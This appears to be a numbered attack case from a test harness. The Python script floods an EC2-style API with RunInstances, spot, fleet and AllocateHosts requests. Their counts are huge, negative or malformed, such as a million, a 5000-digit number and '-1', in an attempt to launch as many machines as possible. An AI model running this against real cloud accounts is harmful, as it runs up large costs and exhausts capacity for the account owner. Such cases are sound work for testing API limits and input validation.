# attack: 27
# does: works, then launches as many machines as a number can tell, in every region
# run: finished
# earns: 6
# prints: AllocateHosts 400
# with: work
# with: http
work()
image = form("DescribeImages", **{"Owner.1": "amazon"})[1].partition(b"<imageId>")[2].partition(b"<")[0].decode()
words = {"ImageId": image, "InstanceType": "t3.micro"}
count = 0
for region in ("us-east-1", "eu-west-3"):
    for number in ("1000000", "99999999999999999999", "-1", "1e6", "²", "0x10", "1" * 5000, "1"):
        count += form("RunInstances", region=region, MinCount="1", MaxCount=number, **words)[0] == 200
for action, words in {
    "RequestSpotInstances": {"InstanceCount": "1000000", "LaunchSpecification.ImageId": image, "LaunchSpecification.InstanceType": "t3.micro"},
    "RequestSpotFleet": {"SpotFleetRequestConfig.TargetCapacity": "1000000", "SpotFleetRequestConfig.IamFleetRole": "arn:aws:iam::123456789012:role/r", "SpotFleetRequestConfig.LaunchSpecifications.1.ImageId": image, "SpotFleetRequestConfig.LaunchSpecifications.1.InstanceType": "t3.micro"},
    "AllocateHosts": {"Quantity": "1000000", "InstanceType": "t3.micro", "AvailabilityZone": "us-east-1a"},
    "CreateFleet": {"TargetCapacitySpecification.TotalTargetCapacity": "1000000", "TargetCapacitySpecification.DefaultTargetCapacityType": "spot", "LaunchTemplateConfigs.1.LaunchTemplateSpecification.LaunchTemplateId": "lt-1"},
}.items():
    print(action, form(action, **words)[0])
print(count)
